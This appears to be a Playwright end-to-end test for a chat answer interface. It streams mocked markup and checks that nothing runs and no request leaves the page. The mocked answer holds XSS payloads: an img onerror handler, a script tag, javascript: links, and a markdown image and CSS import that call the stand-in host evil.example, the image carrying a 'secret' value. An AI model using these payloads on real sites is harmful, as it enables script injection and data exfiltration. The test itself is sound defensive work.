import { ask, begin, expect, lastAnswer, test } from "./test.ts";

const run = "window.ran(1)";
const away = "https://evil.example";
const tag = `<img src=x onerror=${run}>`;
const script = `<script>${run}</script>`;

/** Counts what runs; the fixture fails on any request that leaves. */
const countRuns = (): void => {
  Object.assign(window, { timesRan: 0 });
  const ran = (): void => {
    (window as unknown as { timesRan: number }).timesRan += 1;
  };
  Object.assign(window, { ran, alert: ran });
};

test("an answer that streams markup runs nothing and reaches nobody at any prefix", async ({
  page,
}) => {
  await page.addInitScript(countRuns);
  await begin(page);
  await ask(page, "What was the probable cause of the accident near Soledad?");
  await expect(lastAnswer(page)).toHaveAttribute("aria-busy", "false", { timeout: 60_000 });
  const written = `${tag} ${script} ![x](${away}/p.png?q=secret) [l](javascript:${run}) $\\href{javascript:${run}}{x}$ <style>@import "${away}/c.css"</style>`;
  const answerId = "00000000-0000-4000-8000-00000000abcd";
  const frames = [
    `event: started\ndata: ${JSON.stringify({ answerId, turn: 2 })}\n\n`,
    ...[
      { type: "sources", sources: [] },
      { type: "evidence", quotes: [], verdict: "answerable" },
      ...Array.from(written, (text) => ({ type: "text-delta", text })),
      { type: "sentence", index: 0, text: written, citations: [], supported: true },
      { type: "text-end", answerId, outcome: "complete" },
    ].map((event, index) => `id: ${String(index + 1)}\ndata: ${JSON.stringify(event)}\n\n`),
    "event: end\ndata: {}\n\n",
  ];
  await page.route("**/api/conversations/*/turns", (route) =>
    route.fulfill({ contentType: "text/event-stream", body: frames.join("") }),
  );
  await ask(page, "Say something that runs.");
  await expect(page.getByRole("article")).toHaveCount(2);
  await expect(lastAnswer(page)).toHaveAttribute("aria-busy", "false");
  await expect(lastAnswer(page)).toContainText("x");
  expect(await page.evaluate(() => (window as unknown as { timesRan: number }).timesRan)).toBe(0);
  expect(await page.locator("main img[src^='http'], main iframe, main script").count()).toBe(0);
});
